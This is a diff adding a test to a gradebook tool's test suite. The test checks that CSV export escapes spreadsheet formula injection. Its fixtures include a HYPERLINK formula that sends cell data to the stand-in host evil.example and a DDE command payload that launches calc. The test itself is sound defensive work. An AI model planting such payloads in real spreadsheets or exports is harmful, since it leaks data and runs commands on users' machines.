@@ -65,6 +65,23 @@ def test_csv_has_a_row_per_student_and_a_column_per_task(gradebook):
         assert {k: float(row[k]) for k in ("add", "scale") if row[k]} == tasks
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(gradebook, tmp_path):
+    import shutil
+
+    from grader.classroom.gradebook import FAILED, Result
+
+    book = tmp_path / "copy.sqlite"
+    shutil.copy(gradebook[0], book)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with Gradebook(str(book)) as gb:
+        gb.record(Result(hostile, "h", "c", FAILED, 0.0, 10.0, "+cmd|' /C calc'!A0", hostile, 1))
+        gb.record(Result("@sum", "h", "c", FAILED, 0.0, 10.0, "-2+3", "@sum", 1))
+    rows = {row["student"]: row for row in csv.DictReader(io.StringIO(export(book, "csv")))}
+    assert rows["'" + hostile]["error"] == "'+cmd|' /C calc'!A0"
+    assert rows["'@sum"]["error"] == "'-2+3"
+    assert rows["ann"]["status"] == "graded" and rows["ann"]["error"] == ""  # ordinary cells are untouched
+
+
 def test_json_is_the_gradebook(gradebook):
     book, _, _, results = gradebook
     doc = json.loads(export(book, "json"))
